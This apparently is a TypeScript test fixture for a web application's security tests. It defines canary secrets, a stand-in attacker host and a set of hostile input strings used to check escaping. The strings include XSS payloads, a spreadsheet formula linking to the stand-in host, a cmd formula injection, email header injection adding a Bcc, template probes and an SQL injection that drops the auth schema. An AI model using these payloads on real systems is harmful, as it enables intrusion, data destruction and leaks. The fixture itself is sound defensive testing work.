/** Secrets that may be stored in clear text nowhere (docs/goals.md S26). */
export const canaries = {
  password: 'Canário-Senha-7391-Lilás',
  card: '5031433215406351',
  securityCode: 'cvv-canario-918',
} as const;

/** A host without an owner: only an injected text leads to it. */
export const foreignHost = 'evil.sefira-attack.test';
export const foreignReceiver = `vitima@${foreignHost}`;

/** Texts that become something else where they are not escaped. `mark` is set by a script that runs. */
export const hostileTexts: Readonly<Record<string, string>> = {
  markup: `Ana <img src="https://${foreignHost}/i" onerror="window.pwned=1"><script>window.pwned=1</script>`,
  attribute: `Ana" autofocus onfocus="window.pwned=1" x='`,
  address: 'javascript:window.pwned=1',
  markdown: `[Ana](javascript:window.pwned=1) ![x](https://${foreignHost}/m)`,
  style: `</style></title></textarea><svg/onload=window.pwned=1>`,
  formula: `=HYPERLINK("https://${foreignHost}/f";"Ana")`,
  formulaByTab: `\t+cmd|' /C calc'!A0`,
  header: `Ana\r\nBcc: ${foreignReceiver}\r\nX-Forjado: 1\r\n\r\nAna`,
  log: 'Ana\n{"level":"fatal","msg":"forjada"}',
  template: `Ana {{7*191}} ${'$'}{7*191} <%= 7*191 %> #{7*191}`,
  sql: `Ana'); DROP SCHEMA auth CASCADE; --`,
  turned: 'Ana \u202egpj.exe\u2066 \u0007\u001b[31m',
};

/** Results of the templates among them, if they were evaluated. */
export const templateResult = '1337';
